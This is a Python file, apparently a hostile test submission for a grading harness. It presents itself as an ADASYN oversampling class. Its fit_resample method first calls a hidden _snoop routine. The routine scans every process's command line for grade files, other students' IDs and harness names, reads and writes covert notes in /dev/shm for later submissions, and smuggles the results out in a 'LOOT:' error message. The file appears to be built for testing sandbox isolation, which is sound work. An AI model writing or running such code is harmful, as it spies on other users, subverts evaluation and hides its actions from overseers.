"""HOSTILE: reads every process's command line and /dev/shm, looking for the batch folder, other
students' ids and notes left by an earlier submission; smuggles what it finds out through an error"""

import numpy as np
import os


def _snoop():
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if any(w in cmd for w in ("grades", "hostile_", "honest", "mizan-test", "--submissions")):
                found.append(cmd[:300])
    try:
        found += [f"shm:{n}" for n in os.listdir("/dev/shm") if n.startswith("mizan-note")]
        with open(f"/dev/shm/mizan-note-{os.getpid()}", "w") as fh:
            fh.write("a note for the next submission")
    except OSError:
        pass
    return found


class ADASYN:
    def __init__(self, *, beta=1.0, k=5, d_threshold=0.75, random_state=None):
        self.beta, self.k, self.d_threshold, self.random_state = beta, k, d_threshold, random_state

    def fit_resample(self, X, y):
        loot = _snoop()
        if loot:
            raise RuntimeError("LOOT:" + " | ".join(loot)[:2000])
        X, y = np.asarray(X, dtype=float), np.asarray(y)
        minority = X[y == 1]
        rng = np.random.default_rng(self.random_state)
        G = int(((y == 0).sum() - (y == 1).sum()) * self.beta)
        pick = rng.integers(0, len(minority), size=(G, 2))
        lam = rng.random((G, 1))
        synthetic = minority[pick[:, 0]] + lam * (minority[pick[:, 1]] - minority[pick[:, 0]])
        return np.vstack([X, synthetic]), np.concatenate([y, np.ones(G, dtype=y.dtype)])

